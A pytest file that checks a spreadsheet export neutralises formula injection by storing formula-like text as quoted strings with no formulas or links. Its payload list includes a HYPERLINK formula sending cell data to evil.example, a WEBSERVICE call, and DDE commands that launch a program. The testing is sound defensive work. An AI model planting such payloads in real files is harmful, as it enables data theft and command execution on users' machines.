"""A text that a spreadsheet would take for a formula leaves this program as a text, however it begins."""

from __future__ import annotations

import io

import openpyxl
import pytest

from app.export.xlsx import workbook_in, xlsx_bytes
from tests.export.samples import row_of, small_library, with_cell, workbook

PLACE = ("baqylau_phrases", "phrase::English (en)")
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!'A1'",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "%0A-3+3",
    ";=1+1",
    '"=1+1',
    "'=1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(formula: str) -> None:
    book, (sheet, column) = workbook(small_library()), PLACE
    made = xlsx_bytes(with_cell(book, sheet, row_of(book, sheet), column, formula))
    cells = [cell for one in openpyxl.load_workbook(io.BytesIO(made)) for row in one.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"} and not any(cell.hyperlink for cell in cells)
    written = [cell for cell in cells if cell.value == formula and cell.data_type == "s"]
    assert written
    # Or it would become one when somebody opens the cell and presses Enter.
    assert all(cell.quotePrefix for cell in written) == formula.startswith(("=", "+", "-", "@", "'"))
    assert workbook_in(made)
